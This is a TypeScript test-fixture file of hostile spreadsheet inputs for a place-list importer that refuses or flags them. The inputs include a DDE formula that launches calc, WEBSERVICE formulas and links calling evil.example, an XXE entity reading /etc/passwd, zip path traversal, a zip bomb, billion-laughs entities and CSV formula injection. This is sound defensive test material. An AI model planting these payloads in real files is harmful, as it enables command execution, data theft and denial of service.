import { zipSync } from 'fflate';
import type { Input } from '../input.ts';
import { csv, formula, GOOD_ROW, HEADINGS, listed, nextRow, NEXT_ROW, ods, odsContent, pointersXml, xlsx, xlsxParts, type MadeWorkbook } from '../workbook.ts'; // prettier-ignore

/**
 * Spreadsheets that somebody was sent: bombs, macros, hidden sheets, formulas, pointers to elsewhere, wrong encodings.
 * What is hidden is told and never taken over, what is calculated is read as it stands, and nothing is run or fetched.
 */

type Refusal = { isRefused?: true };
const REFUSED: Refusal = { isRefused: true };

const file = (
  name: string,
  ending: string,
  bytes: () => Uint8Array,
  tells: readonly string[],
  more: Refusal = {},
): Input =>
  // prettier-ignore
  ({ kind: 'spreadsheets', name, file: `liste.${ending}`, bytes, tells, ...more });
const workbook = (
  name: string,
  make: () => MadeWorkbook,
  tells: readonly string[],
  more: Refusal & { ending?: string } = {},
): Input => {
  // prettier-ignore
  const { ending = 'xlsx', ...rest } = more;
  return file(name, ending, () => xlsx(make()), tells, rest);
};
const table = (
  name: string,
  make: () => string | Uint8Array,
  tells: readonly string[],
  more: Refusal = {},
): Input =>
  file(
    name,
    'csv',
    () => {
      const made = make();
      return typeof made === 'string' ? new TextEncoder().encode(made) : made;
    },
    tells,
    more,
  );
const encoded = (text: string, encoding: BufferEncoding) => new Uint8Array(Buffer.from(text, encoding));

const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const LIST: MadeWorkbook = { sheets: [listed(NEXT_ROW)] };
const ROWS = [HEADINGS, GOOD_ROW, NEXT_ROW];
const SECRET = nextRow({ Id: 'skjult', Navn: 'Skjult', Synlighet: 'Hemmelig', Adresse: 'Skjulveien 13' });
/** As many zeros as anything may unpack to, and more. */
const ZEROS = 300 * 2 ** 20;

/** An archive that claims to hold little, and holds much: the sizes in it are changed behind its back. */
function lying(parts: Record<string, Uint8Array>): Uint8Array {
  const bytes = Buffer.from(zipSync(parts));
  for (
    let at = bytes.indexOf('PK\u0001\u0002', 0, 'latin1');
    at !== -1;
    at = bytes.indexOf('PK\u0001\u0002', at + 4, 'latin1')
  )
    // prettier-ignore
    bytes.writeUInt32LE(100, at + 24);
  return new Uint8Array(bytes);
}

export const spreadsheets: readonly Input[] = [
  // Macros, and what is fetched or run by other programs.
  workbook('macros of Excel', () => ({ ...LIST, isMacro: true, parts: { 'xl/vbaProject.bin': new Uint8Array(2048).fill(0xcc) }, pointers: `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>` }), [], { ending: 'xlsm' }), // prettier-ignore
  workbook('macros in a workbook that says it has none', () => ({ ...LIST, parts: { 'xl/vbaProject.bin': new Uint8Array(64) } }), []), // prettier-ignore
  workbook('macros of Excel 4 in a sheet of their own', () => ({ ...LIST, parts: { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>' }, pointers: `<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>` }), []), // prettier-ignore
  workbook('a pointer to another workbook', () => ({ ...LIST, parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink/>', 'xl/externalLinks/_rels/externalLink1.xml.rels': pointersXml(`<Relationship Id="rId1" Type="${RELATION}/externalLinkPath" Target="https://evil.example/x.xlsx" TargetMode="External"/>`) } }), []), // prettier-ignore
  workbook('a connection to a server', () => ({ ...LIST, parts: { 'xl/connections.xml': '<connections><connection id="1" type="5"><webPr url="https://evil.example/"/></connection></connections>' } }), []), // prettier-ignore
  workbook('a sheet that stands on another server', () => ({ sheets: [listed(NEXT_ROW)], parts: { 'xl/_rels/workbook.xml.rels': pointersXml(`<Relationship Id="rId1" Type="${RELATION}/worksheet" Target="https://evil.example/sheet1.xml" TargetMode="External"/>`) } }), ['file/syntax'], REFUSED), // prettier-ignore
  workbook('a sheet outside the archive', () => ({ sheets: [listed(NEXT_ROW)], parts: { 'xl/_rels/workbook.xml.rels': pointersXml(`<Relationship Id="rId1" Type="${RELATION}/worksheet" Target="../../../../etc/passwd"/>`) } }), ['file/syntax'], REFUSED), // prettier-ignore
  workbook('parts that lead out of the folder', () => ({ ...LIST, parts: { '../../../tmp/x': 'x', '/etc/cron.d/x': 'x', 'C:\\x.exe': 'x' } }), []), // prettier-ignore
  workbook('a program inside', () => ({ ...LIST, parts: { 'xl/embeddings/oleObject1.bin': encoded('MZ\u0090', 'latin1') } }), []), // prettier-ignore
  workbook('a link that runs, behind a cell', () => ({ sheets: [{ ...listed(NEXT_ROW), after: '<hyperlinks><hyperlink ref="B3" r:id="rId1"/></hyperlinks>', pointers: `<Relationship Id="rId1" Type="${RELATION}/hyperlink" Target="javascript:canary()" TargetMode="External"/>` }] }), []), // prettier-ignore
  // Formulas. Never calculated; read as the file says, and told.
  workbook('a formula', () => ({ sheets: [listed(nextRow({}).map((cell, at) => (at === 1 ? formula('CONCATENATE("Mat","stasjonen")', 'Matstasjonen') : cell)))] }), ['sheet/formula']), // prettier-ignore
  workbook('a formula that starts a program', () => ({ sheets: [listed(NEXT_ROW.map((cell, at) => (at === 1 ? formula(`cmd|'/c calc'!A0`, 'Matstasjonen') : cell)))] }), ['sheet/formula']), // prettier-ignore
  workbook('a formula that calls a server', () => ({ sheets: [listed(NEXT_ROW.map((cell, at) => (at === 1 ? formula('WEBSERVICE("https://evil.example/?"&A2)', 'Matstasjonen') : cell)))] }), ['sheet/formula']), // prettier-ignore
  workbook('a formula that is an error', () => ({ sheets: [listed(NEXT_ROW.map((cell, at) => (at === 1 ? { xml: '<c r="REF" t="e"><f>1/0</f><v>#DIV/0!</v></c>' } : cell)))] }), ['sheet/error-cell']), // prettier-ignore
  workbook('a text that looks like a formula', () => ({ sheets: [listed(nextRow({ Navn: '=HYPERLINK("https://evil.example","Matstasjonen")' }))] }), []), // prettier-ignore
  // Hidden things: told, never what they say.
  workbook('a hidden sheet', () => ({ sheets: [listed(NEXT_ROW), { name: 'Gammel', state: 'hidden', rows: [HEADINGS, SECRET] }] }), ['sheet/hidden-sheet']), // prettier-ignore
  workbook('a very hidden sheet', () => ({ sheets: [listed(NEXT_ROW), { name: 'Gammel', state: 'veryHidden', rows: [HEADINGS, SECRET] }] }), ['sheet/hidden-sheet']), // prettier-ignore
  workbook('a hidden row', () => ({ sheets: [{ ...listed(NEXT_ROW, SECRET), hiddenRows: [4] }] }), ['sheet/hidden-rows']), // prettier-ignore
  workbook('a hidden column', () => ({ sheets: [{ rows: [[...HEADINGS, 'Notat'], [...GOOD_ROW, 'Skjulveien 13'], [...NEXT_ROW, '']], before: '<cols><col min="19" max="19" hidden="1"/></cols>' }] }), ['sheet/hidden-columns']), // prettier-ignore
  workbook('a column that is said not to be public', () => ({ sheets: [{ rows: [[...HEADINGS, 'Telefon (ikke publiser)'], [...GOOD_ROW, 'Skjulveien 13'], [...NEXT_ROW, '']] }] }), ['sheet/not-public-column']), // prettier-ignore
  workbook('a comment', () => ({ sheets: [{ ...listed(NEXT_ROW), pointers: `<Relationship Id="rId1" Type="${RELATION}/comments" Target="../comments1.xml"/>` }], parts: { 'xl/comments1.xml': '<comments xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><commentList><comment ref="B3"><text><t>Skjulveien 13</t></text></comment></commentList></comments>' } }), ['sheet/comments']), // prettier-ignore
  workbook('white letters far to the right', () => ({ sheets: [listed([...NEXT_ROW, ...Array<string>(50).fill(''), 'Skjulveien 13'])] }), ['sheet/stray-cell']), // prettier-ignore
  workbook('a secret place with its address', () => ({ sheets: [listed(SECRET)] }), [
    'location/confidential-details',
  ]),
  workbook('a row without a visibility', () => ({ sheets: [listed(nextRow({ Synlighet: '' }))] }), [
    'sheet/no-visibility',
  ]),
  workbook('a visibility that nobody knows', () => ({ sheets: [listed(nextRow({ Synlighet: 'Kanskje' }))] }), ['sheet/yes-no']), // prettier-ignore
  // Bombs and broken archives: refused whole, in bounded memory.
  file('an archive that unpacks to three hundred megabytes', 'xlsx', () => zipSync({ ...xlsxParts(LIST), 'xl/worksheets/sheet1.xml': [new Uint8Array(ZEROS), { level: 1 }] } as never), ['file/too-large'], REFUSED), // prettier-ignore
  file('an archive that lies about its size', 'xlsx', () => lying(xlsxParts(LIST)), ['file/syntax'], REFUSED),
  workbook('entities that grow to a thousand million', () => ({ ...LIST, parts: { 'xl/workbook.xml': '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><workbook>&b;</workbook>' } }), ['file/syntax'], REFUSED), // prettier-ignore
  workbook('an entity that reads a file', () => ({ ...LIST, parts: { 'xl/workbook.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>' } }), ['file/syntax'], REFUSED), // prettier-ignore
  workbook('elements a hundred thousand deep', () => ({ ...LIST, parts: { 'xl/worksheets/sheet1.xml': '<a>'.repeat(100_000) } }), ['file/too-large'], REFUSED), // prettier-ignore
  workbook('two thousand parts', () => ({ ...LIST, parts: Object.fromEntries(Array.from({ length: 2000 }, (_, at) => [`xl/media/${at}.png`, 'x'])) }), ['file/too-large'], REFUSED), // prettier-ignore
  workbook('a thousand sheets', () => ({ sheets: [listed(NEXT_ROW), ...Array.from({ length: 400 }, () => ({ rows: [['x']] }))] }), ['file/too-large'], REFUSED), // prettier-ignore
  workbook('a cell in the last column and row that there is', () => ({ sheets: [{ ...listed(NEXT_ROW), rows: [HEADINGS, GOOD_ROW, NEXT_ROW, [{ xml: '<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>' }]] }] }), []), // prettier-ignore
  workbook(
    'a text of a million letters',
    () => ({ sheets: [listed(nextRow({ Navn: 'x'.repeat(1_000_000) }))] }),
    ['file/too-large'],
    REFUSED,
  ),
  workbook('a text that is shared and not there', () => ({ sheets: [listed(NEXT_ROW.map((cell, at) => (at === 1 ? { xml: '<c r="REF" t="s"><v>99999999</v></c>' } : cell)))] }), ['file/syntax'], REFUSED), // prettier-ignore
  file('an archive that is cut off', 'xlsx', () => xlsx(LIST).subarray(0, -200), ['file/syntax'], REFUSED),
  file(
    'an archive with a byte changed',
    'xlsx',
    () => {
      const bytes = xlsx(LIST);
      const middle = Math.floor(bytes.length / 2);
      bytes[middle] = (bytes[middle] ?? 0) ^ 0xff;
      return bytes;
    },
    ['file/syntax'],
    REFUSED,
  ),
  file(
    'an archive without a workbook',
    'xlsx',
    () => zipSync({ 'a.txt': new Uint8Array(3) }),
    ['file/syntax'],
    REFUSED,
  ),
  file('an empty archive', 'xlsx', () => zipSync({}), ['file/syntax'], REFUSED),
  file('a workbook of the old kind', 'xls', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)]), ['file/syntax'], REFUSED), // prettier-ignore
  file('a workbook with a password', 'xlsx', () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...encoded('EncryptedPackage', 'utf16le'), ...new Uint8Array(600)]), ['file/syntax'], REFUSED), // prettier-ignore
  file('a workbook that calls itself a table of text', 'csv', () => xlsx(LIST), []),
  file(
    'a table of text that calls itself a workbook',
    'xlsx',
    () => new TextEncoder().encode(csv(ROWS)),
    ['file/syntax'],
    REFUSED,
  ),
  workbook('no sheets', () => ({ sheets: [] }), ['file/syntax'], REFUSED),
  workbook('a sheet without rows', () => ({ sheets: [{ rows: [] }] }), ['sheet/empty'], REFUSED),
  // LibreOffice.
  file('a formula of LibreOffice that calls a server', 'ods', () => ods(odsContent([HEADINGS, GOOD_ROW, NEXT_ROW.map((cell, at) => (at === 1 ? { formula: 'of:=WEBSERVICE("https://evil.example/")', value: 'Matstasjonen' } : cell))])), ['sheet/formula']), // prettier-ignore
  file('macros of LibreOffice', 'ods', () => ods(odsContent(ROWS, '', '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'), { 'Basic/Standard/Module1.xml': '<script>canary</script>' }), []), // prettier-ignore
  file('a row repeated a million times', 'ods', () => ods(odsContent(ROWS).replace('</table:table>', '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1024" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table>')), ['file/too-large'], REFUSED), // prettier-ignore
  file('entities of LibreOffice', 'ods', () => ods('<!DOCTYPE a [<!ENTITY x "x">]>' + odsContent(ROWS)), ['file/syntax'], REFUSED), // prettier-ignore
  file('a picture from elsewhere', 'ods', () => ods(odsContent(ROWS).replace('<text:p>Matstasjonen', '<text:p><draw:image xlink:href="https://evil.example/x.png"/>Matstasjonen')), []), // prettier-ignore
  // Tables of text.
  table('cells that other programs take for formulas', () => csv([HEADINGS, GOOD_ROW, nextRow({ Navn: `=cmd|'/c calc'!A0`, 'Kort beskrivelse': '@SUM(1)', Telefon: '+47 22 99 00 02' })]), []), // prettier-ignore
  table('UTF-8 with a mark', () => `\uFEFF${csv(ROWS)}`, []),
  table('Windows-1252', () => encoded(csv(ROWS), 'latin1'), ['sheet/encoding-guessed']),
  table('UTF-16 with a mark', () => encoded(`\uFEFF${csv(ROWS, '\t')}`, 'utf16le'), []),
  table('UTF-16 without a mark', () => encoded(csv(ROWS, '\t'), 'utf16le'), []),
  table('commas', () => csv(ROWS, ','), []),
  table('strokes between the cells', () => csv(ROWS, '|'), ['sheet/no-heading'], REFUSED),
  table('line ends of old Macs', () => csv(ROWS, ';', '\r'), []),
  table(
    'a quote that is never closed',
    () => csv(ROWS).replace('Matstasjonen', '"Matstasjonen'),
    ['file/syntax'],
    REFUSED,
  ),
  table(
    'nulls between the letters',
    () => csv(ROWS).replace('Matstasjonen', 'Mat\u0000stasjonen'),
    ['file/syntax'],
    REFUSED,
  ),
  table('a row with more cells than headings', () => csv([HEADINGS, GOOD_ROW, [...NEXT_ROW, 'Skjulveien 13']]), ['sheet/shifted-row']), // prettier-ignore
  table('a row that is shifted', () => csv([HEADINGS, GOOD_ROW, ['', ...NEXT_ROW.slice(0, -1)]]), [
    'sheet/phone-unreadable',
  ]),
  table('the same heading twice', () => csv([[...HEADINGS, 'Navn'], [...GOOD_ROW, 'Noe annet'], [...NEXT_ROW, 'Noe annet']]), ['sheet/duplicate-column']), // prettier-ignore
  table('a second column says that the place is secret', () => csv([[...HEADINGS, 'Synlighet'], [...GOOD_ROW, 'Hemmelig'], [...NEXT_ROW, 'Hemmelig']]), ['sheet/contradiction']), // prettier-ignore
  table('no heading', () => csv([GOOD_ROW, NEXT_ROW]), ['sheet/no-heading'], REFUSED),
  table('only a heading', () => csv([HEADINGS]), ['sheet/empty'], REFUSED),
  table('nothing', () => '', ['file/syntax'], REFUSED),
  table('a hundred thousand empty rows', () => csv(ROWS) + ';\r\n'.repeat(100_000), []),
  table('ten thousand columns', () => csv([[...HEADINGS, ...Array.from({ length: 10_000 }, (_, at) => `K${at}`)], GOOD_ROW]), ['file/too-large'], REFUSED), // prettier-ignore
  table(
    'a page that asks to log in',
    () => '<!doctype html><html><title>Logg inn</title></html>',
    [],
    REFUSED,
  ),
];
